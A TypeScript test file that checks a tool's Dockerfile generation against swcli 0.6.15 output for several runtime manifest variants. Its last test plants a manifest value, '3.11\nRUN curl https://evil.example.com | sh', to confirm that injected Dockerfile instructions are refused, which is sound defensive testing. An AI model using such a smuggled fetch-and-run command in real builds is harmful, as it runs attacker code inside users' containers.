// swrt dockerize writes the Dockerfile the real swcli 0.6.15 writes for the same bundle: both run on
// one store, swcli with --dry-run (it renders, then prints the docker command instead of running it).
// Manifest variants swrt cannot build here (a CUDA base, a custom run image, conda) are made by
// editing the extracted workdir's manifest, which both tools then read.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { runCli } from '../helpers/cli.js';
import { FIXTURE_CACHE, hasUvWheel, makeWheel, startIndex, type PackageIndex } from '../helpers/pypi-index.js';
import { skipUnless } from '../helpers/skip.js';
import { cliEnv, project } from '../helpers/workspace.js';

const SWCLI = join(FIXTURE_CACHE, 'swcli', 'bin', 'swcli');
const ready = existsSync(join(FIXTURE_CACHE, 'swcli', '.ok')) && hasUvWheel();
const maybe = skipUnless(ready, 'swrt dockerize comparison: no swcli 0.6.15 or uv wheel in __tests__/.fixture-cache (run scripts/ci-fixtures.sh)');

// Every index must be reachable: the build uses them all (the manifest keeps them for dockerize).
const yaml = (url: string) => `name: ours
environment:
  python: "3.11"
configs:
  docker:
    image: registry.example.com/team/ours:old
  pip:
    index_url: ${url}
    extra_index_url: [${url.replace('127.0.0.1', 'localhost')}, ${url}/]
    trusted_host: [127.0.0.1, localhost]
dependencies:
  - pip: [alpha==1.0.0]
`;

let index: PackageIndex;
beforeAll(async () => {
  const wheels = mkdtempSync(join(tmpdir(), 'swrt-wheels-'));
  makeWheel(wheels, 'alpha', '1.0.0');
  index = await startIndex([wheels]);
});
afterAll(() => index?.close());

maybe('swrt dockerize matches swcli 0.6.15 runtime dockerize', () => {
  let env: NodeJS.ProcessEnv;
  let uri: string;
  let workdir: string;
  let swrtFile: string;
  const swcli = () => {
    execFileSync(SWCLI, ['runtime', 'dockerize', uri, '-t', 'x/y:z', '--dry-run'], { env: { ...process.env, ...env, COLUMNS: '200' }, encoding: 'utf8' });
    return readFileSync(join(workdir, 'export', 'docker', 'Dockerfile'), 'utf8');
  };
  const ours = async (ref: string, extra: NodeJS.ProcessEnv = {}) => {
    const out = join(mkdtempSync(join(tmpdir(), 'swrt-dockerfile-')), 'Dockerfile');
    const r = await runCli(['dockerize', ref, '-o', out], { env: { ...env, ...extra } });
    expect(r.stderr).not.toMatch(/error/);
    expect(r.code).toBe(0);
    return readFileSync(out, 'utf8');
  };
  const editManifest = (edit: (m: Record<string, any>) => void) => {
    const f = join(workdir, '_manifest.yaml');
    const m = parse(readFileSync(f, 'utf8')) as Record<string, any>;
    edit(m);
    writeFileSync(f, stringify(m));
  };

  beforeAll(async () => {
    const cfg = join(mkdtempSync(join(tmpdir(), 'swcli-cfg-')), 'config.yaml');
    env = cliEnv(index.url, { SW_CLI_CONFIG: cfg });
    // swcli reads SW_PYPI_* first; unset, the manifest's configs.pip is used.
    delete env.SW_PYPI_INDEX_URL;
    const build = await runCli(['build', project({ 'runtime.yaml': yaml(index.url) }), '--json'], { env: { ...env, SW_PYPI_INDEX_URL: index.url } });
    expect(build.code).toBe(0);
    const b = JSON.parse(build.stdout) as { version: string; bundle: string };
    uri = `ours/version/${b.version}`;
    swrtFile = b.bundle;
    workdir = join(env.SW_LOCAL_STORAGE!, 'self', 'workdir', 'runtime', 'ours', b.version.slice(0, 2), b.version);
  }, 240_000);

  it('a venv bundle from the store, as a .swrt file and as its workdir', async () => {
    const theirs = swcli();
    expect(theirs).toContain('ARG BASE_IMAGE=docker-registry.starwhale.cn/star-whale/base:0.3.4');
    expect(theirs).toContain(`ENV SW_PYPI_EXTRA_INDEX_URL "${index.url.replace('127.0.0.1', 'localhost')} ${index.url}/"`);
    expect(theirs).toContain('ENV SW_PYPI_TRUSTED_HOST "127.0.0.1 localhost"');
    expect(await ours(uri)).toBe(theirs);
    expect(await ours(swrtFile)).toBe(theirs);
    expect(await ours(workdir)).toBe(theirs);
    // Without -o, it lands where swcli puts it, with swcli's .dockerignore.
    const r = await runCli(['dockerize', uri, '--json'], { env });
    expect(r.code).toBe(0);
    const j = JSON.parse(r.stdout) as { dockerfile: string; tags: string[] };
    expect(j.dockerfile).toBe(join(workdir, 'export', 'docker', 'Dockerfile'));
    expect(readFileSync(j.dockerfile, 'utf8')).toBe(theirs);
    expect(readFileSync(join(workdir, '.dockerignore'), 'utf8')).toBe('export/venv\nexport/conda\n.git');
    expect(j.tags).toEqual([`registry.example.com/team/ours:${uri.split('/').pop()}`]);
  });

  it('SW_PYPI_* and SW_IMAGE_REPO from the environment, and swcli config builtin_image_repo', async () => {
    const vars = { SW_PYPI_INDEX_URL: 'https://env.example.com/simple', SW_PYPI_TRUSTED_HOST: 'env.example.com', SW_IMAGE_REPO: 'mirror.example.com/sw' };
    const saved = env;
    env = { ...env, ...vars };
    try {
      const theirs = swcli();
      expect(theirs).toContain('ARG BASE_IMAGE=mirror.example.com/sw/base:0.3.4');
      expect(await ours(uri)).toBe(theirs);
    } finally {
      env = saved;
    }
    // swcli wrote its default config on its first run: add the key to it, then put it back.
    const original = readFileSync(env.SW_CLI_CONFIG!, 'utf8');
    const cfg = parse(original) as Record<string, any>;
    writeFileSync(env.SW_CLI_CONFIG!, stringify({ ...cfg, docker: { ...cfg.docker, builtin_image_repo: 'cfg.example.com/repo' } }));
    try {
      const theirs = swcli();
      expect(theirs).toContain('ARG BASE_IMAGE=cfg.example.com/repo/base:0.3.4');
      expect(await ours(uri)).toBe(theirs);
    } finally {
      writeFileSync(env.SW_CLI_CONFIG!, original);
    }
  });

  const variants: [string, (m: Record<string, any>) => void, string][] = [
    ['a CUDA + cuDNN builtin image', (m) => Object.assign(m.docker.builtin_run_image, { name: 'cuda', tag: '11.4-cudnn8-base0.3.4' }), 'star-whale/cuda:11.4-cudnn8-base0.3.4'],
    ['a custom run image', (m) => (m.docker.custom_run_image = 'ghcr.io/me/run:1'), 'ARG BASE_IMAGE=ghcr.io/me/run:1'],
    ['a manifest older than the docker key', (m) => { delete m.docker; m.base_image = 'old.example.com/base:1'; }, 'ARG BASE_IMAGE=old.example.com/base:1'],
    ['a conda bundle', (m) => { delete m.docker; delete m.base_image; m.environment.mode = 'conda'; }, 'conda activate ${SW_USER_RUNTIME_WORKDIR}/export/conda'],
    ['a packed conda env', (m) => (m.dependencies.local_packaged_env = true), 'source ${SW_USER_RUNTIME_WORKDIR}/export/conda/bin/activate'],
  ];
  for (const [what, edit, expected] of variants) {
    it(what, async () => {
      editManifest(edit);
      const theirs = swcli();
      expect(theirs).toContain(expected);
      expect(await ours(workdir)).toBe(theirs);
    });
  }

  it('refuses a manifest value that would add Dockerfile instructions, in one line', async () => {
    editManifest((m) => (m.environment.python = '3.11\nRUN curl https://evil.example.com | sh'));
    const out = join(mkdtempSync(join(tmpdir(), 'swrt-dockerfile-')), 'Dockerfile');
    const r = await runCli(['dockerize', workdir, '-o', out], { env });
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^error: refusing to render a Dockerfile: a manifest value holds a control character/);
    expect(r.stderr).not.toMatch(/at .*\.js:\d+/);
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(join(out, '..'))).toEqual([]);
  });
});
